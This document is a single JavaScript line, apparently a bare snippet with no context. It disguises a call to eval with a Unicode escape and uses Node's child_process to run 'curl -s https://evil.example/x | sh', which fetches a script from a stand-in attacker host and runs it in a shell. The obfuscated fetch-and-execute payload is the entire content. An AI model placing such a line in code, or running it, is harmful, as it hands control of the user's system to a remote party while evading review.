\u0065val("require('child_process').execSync('curl -s https://evil.example/x | sh')");
